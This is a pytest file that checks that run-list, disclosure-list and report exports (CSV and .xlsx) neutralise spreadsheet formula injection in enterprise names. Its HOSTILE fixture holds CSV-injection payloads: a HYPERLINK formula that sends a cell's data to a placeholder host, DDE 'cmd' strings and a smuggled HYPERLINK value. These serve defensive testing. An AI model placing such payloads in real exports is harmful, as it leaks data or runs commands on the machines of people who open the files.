"""Exports without live formulas: enterprise names come from outside, and a name that starts with = + - @
(or a tab or carriage return) ran as a formula when staff opened the run lists, the disclosure list or
the monthly report in Excel. CSV cells are neutralised with a leading apostrophe; .xlsx texts are string
cells, never formulas; money and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from api.runlists import Filters, csv_chunks, rows_workbook, workbook

HOSTILE = [
    '=HYPERLINK("http://x.example/?d="&D2,"详情")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    usccs = [f"91430100{n:09d}X" for n in range(len(HOSTILE))]
    pq.write_table(
        pa.table(
            {
                "policy_id": ["p"] * len(HOSTILE),
                "policy_version": [1] * len(HOSTILE),
                "item_id": ["i"] * len(HOSTILE),
                "uscc": usccs,
                "amount": pa.array([Decimal("-1.00")] * len(HOSTILE), pa.decimal128(18, 2)),
                "amount_before_allocation": pa.array([Decimal("1.00")] * len(HOSTILE), pa.decimal128(18, 2)),
            }
        ),
        tmp_path / "candidates.parquet",
    )
    pq.write_table(pa.table({"uscc": usccs, "name": HOSTILE}), tmp_path / "payees.parquet")
    return tmp_path


def test_run_list_csv_neutralises_formula_names(run_dir: Path) -> None:
    text = b"".join(csv_chunks(run_dir, "candidates", Filters(None))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    names = [r[4] for r in rows]
    assert sorted(names) == sorted("'" + n for n in HOSTILE)
    assert {r[5] for r in rows} == {"-1.00"}  # money is not text: left as it is


def test_run_list_and_report_workbooks_hold_text_not_formulas(run_dir: Path) -> None:
    for data in (
        workbook(run_dir, "candidates", Filters(None)),
        rows_workbook("公示名单", ["企业名称", "金额"], [[n, Decimal("1.00")] for n in HOSTILE]),
    ):
        sheet = load_workbook(io.BytesIO(data)).active
        rows = list(sheet.iter_rows(min_row=2))
        assert len(rows) == len(HOSTILE)
        cells = [c for row in rows for c in row]
        assert not [c.value for c in cells if c.data_type == "f"]  # not one formula
        assert {c.value for c in cells} >= set(HOSTILE[:5])  # the texts as they were (\r is kept as \n)


@pytest.mark.parametrize("code", ["911100001234567890", '1"&HYPERLINK("http://x.example")&"'])
def test_a_code_kept_as_text_shows_exactly_its_text_and_runs_nothing(code: str) -> None:
    from reports.spreadsheet import csv_row, text_cell

    out = io.StringIO()
    csv.writer(out).writerow(csv_row([text_cell(code), HOSTILE[0]]))
    cell, name = next(csv.reader(io.StringIO(out.getvalue())))
    # ="…" with every quote doubled: one string literal, which Excel shows as the code itself.
    assert cell == '="' + code.replace('"', '""') + '"'
    assert cell[2:-1].replace('""', "").count('"') == 0
    assert name == "'" + HOSTILE[0]
